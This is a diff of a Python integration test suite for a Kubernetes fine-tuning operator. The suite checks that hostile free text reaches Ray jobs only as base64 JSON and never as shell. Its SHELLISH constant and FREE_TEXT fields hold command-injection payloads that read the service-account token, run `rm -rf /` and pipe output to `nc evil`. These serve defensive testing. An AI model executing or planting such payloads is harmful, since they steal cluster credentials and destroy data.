@@ -8,10 +8,11 @@ server and by `anytasktune validate` alike) or rendered so that it cannot act.
   refuses (queueName, nodeSelector, tolerations), invalid ServiceAccount and Secret key names.
 - Rendered safely: free text (instruction, dataset URIs, model ids, module names) with
   shell metacharacters, `$(…)`, backticks, quotes, newlines and unicode is accepted and
-  reaches the pod only as JSON in the ConfigMap: the RayJob's entrypoint is a fixed
-  string, no user text appears anywhere in the RayJob, and the ConfigMap the real
-  operator created on the API server holds the text byte for byte. Every pod KubeRay
-  would create from the RayJob is admitted by the API server.
+  reaches the Ray job only as base64 JSON in the RayJob's runtime env (KubeRay's submitter
+  puts that into a bash "..." string): the entrypoint is a fixed string, no user text
+  appears as such anywhere in the RayJob, and the spec in the RayJob the real operator
+  created on the API server holds the text byte for byte. Every pod KubeRay would create
+  from the RayJob is admitted by the API server.
 """
 
 from __future__ import annotations
@@ -26,14 +27,14 @@ import pytest
 from kubernetes.client.rest import ApiException
 
 from anytasktune.config import OperatorConfig
-from anytasktune.render import SPEC_FILE
+from anytasktune.render import spec_json_of
 from anytasktune.spec import GROUP, MAX_NAME_PLUS_SUBTASK, PLURAL, VERSION
 from anytasktune.validation import validate_object
 from tests.integration.helpers import Kubectl, OperatorProcess, api_client_in_new_namespace, operator_serving, pod_refusals, taskfinetune, wait_for
 from tests.kube.controlplane import ControlPlane
 
 NAMESPACE = "hostile"
-ENTRYPOINT = f"python -m {OperatorConfig().trainjob_module} --spec {OperatorConfig().spec_mount_path}/{SPEC_FILE}"
+ENTRYPOINT = f"python -m {OperatorConfig().trainjob_module}"
 SHELLISH = "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) `id` ${HOME} ; rm -rf / && echo 'x' \"y\" | nc evil 1 > /tmp/o"
 
 
@@ -102,7 +103,7 @@ REFUSED: list[tuple[str, Callable[[dict[str, Any]], None]]] = [
 ]
 
 
-# Free text that only the trainjob reads: accepted, and carried through the ConfigMap's JSON.
+# Free text that only the trainjob reads: accepted, and carried as base64 of the spec's JSON.
 FREE_TEXT = {
     "instruction": SHELLISH + "\nline two\r\n\t'single' \"double\" \\backslash\\ 中文 😀 \u202eRTL\u200d \x00nul",
     "uri": "s3://datasets/odd dir/$(id)/`x`/'q'/\"d\"/ü/k;ey.jsonl",
@@ -165,15 +166,14 @@ def test_the_limits_themselves_are_accepted(api: kubernetes.client.ApiClient) ->
 
 @pytest.fixture(scope="module")
 def created(api: kubernetes.client.ApiClient, control_plane: ControlPlane, tmp_path_factory: pytest.TempPathFactory
-            ) -> Iterator[tuple[dict[str, Any], dict[str, Any]]]:
-    """The real operator's ConfigMap and RayJob for the free-text TaskFineTune."""
+            ) -> Iterator[dict[str, Any]]:
+    """The real operator's RayJob for the free-text TaskFineTune."""
     k = Kubectl(control_plane.env())
     with operator_serving(control_plane.env(), tmp_path_factory.mktemp("hostile-operator")) as operator:
         k.apply(hostile_but_valid(), NAMESPACE)
         job = wait_for("the RayJob", lambda: k.rayjobs(NAMESPACE).get("freetext-kw-1"), timeout=90)
-        cm = k.json("get", "configmap", "freetext-kw-1", "-n", NAMESPACE)
         assert isinstance(operator, OperatorProcess)
-        yield job, cm
+        yield job
 
 
 def strings_in(value: Any) -> Iterator[str]:
@@ -188,8 +188,8 @@ def strings_in(value: Any) -> Iterator[str]:
             yield from strings_in(v)
 
 
-def test_free_text_reaches_the_pod_only_through_the_configmap(created: tuple[dict[str, Any], dict[str, Any]]) -> None:
-    job, cm = created
+def test_free_text_reaches_the_ray_job_only_as_base64(created: dict[str, Any]) -> None:
+    job = created
     assert job["spec"]["entrypoint"] == ENTRYPOINT
     for text in FREE_TEXT.values():
         for s in strings_in(job):
@@ -197,23 +197,23 @@ def test_free_text_reaches_the_pod_only_through_the_configmap(created: tuple[dic
     # No field of the RayJob holds a shell metacharacter or an expansion at all.
     for s in strings_in(job["spec"]):
         assert "$(" not in s and "`" not in s and "\n" not in s, f"{s[:200]!r}"
-    spec = json.loads(cm["data"][SPEC_FILE])
+    spec = json.loads(spec_json_of(job))
     assert spec["instruction"] == FREE_TEXT["instruction"]
     assert spec["dataset"]["uri"] == FREE_TEXT["uri"]
     assert spec["baseModel"]["id"] == FREE_TEXT["model"]
     assert FREE_TEXT["module"] in spec["lora"]["targetModules"]
 
 
-def test_every_pod_kuberay_would_create_is_admitted(api: kubernetes.client.ApiClient, created: tuple[dict[str, Any], dict[str, Any]]) -> None:
-    job, _ = created
+def test_every_pod_kuberay_would_create_is_admitted(api: kubernetes.client.ApiClient, created: dict[str, Any]) -> None:
+    job = created
     refused = pod_refusals(kubernetes.client.CoreV1Api(api), NAMESPACE, job["spec"])
     assert not refused, refused
 
 
-def test_env_values_are_what_the_spec_says(created: tuple[dict[str, Any], dict[str, Any]]) -> None:
+def test_env_values_are_what_the_spec_says(created: dict[str, Any]) -> None:
     """Kubernetes expands $(VAR) in env values; what reaches env must hold none (the door
     refuses `$` there), so the pod sees the spec's text unchanged."""
-    job, _ = created
+    job = created
     head = job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
     env = {e["name"]: e.get("value") for e in head["env"]}
     assert env["AWS_REGION"] == "eu-west-3" and env["AWS_ENDPOINT_URL_S3"] == "https://s3.eu-west-3.example.com:8443/path"
